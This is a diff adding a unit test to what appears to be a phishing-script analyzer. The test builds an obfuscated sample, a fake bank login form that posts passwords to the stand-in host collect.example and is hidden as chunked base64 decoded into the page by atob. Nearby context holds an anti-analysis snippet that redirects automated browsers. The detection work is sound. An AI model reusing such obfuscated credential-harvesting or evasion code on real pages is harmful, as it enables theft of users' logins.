@@ -346,6 +346,20 @@ describe("scripts", () => {
     expect(facts.connectApis).toContain("eth_requestaccounts");
   });
 
+  it("decodes base64 cut into chunks and joined (atob(parts.join('')))", () => {
+    const markup =
+      '<h1>Internetbank</h1><form method="post" action="https://collect.example/x.php"><input type="password" name="p"></form>';
+    const b64 = Buffer.from(markup).toString("base64");
+    const chunks = b64.match(/.{1,16}/g) ?? [];
+    const facts = analyzeScripts(
+      [
+        `var _p=[${chunks.map((c) => `"${c}"`).join(", ")}];setTimeout(function(){app.innerHTML=atob(_p.join(""))},900);`,
+      ],
+      [],
+    );
+    expect(facts.decoded).toContain('action="https://collect.example/x.php"');
+  });
+
   it("recognizes anti-analysis tricks", () => {
     const facts = analyzeScripts(
       ["setInterval(function(){debugger;},100); if(navigator.webdriver){location='about:blank'}"],
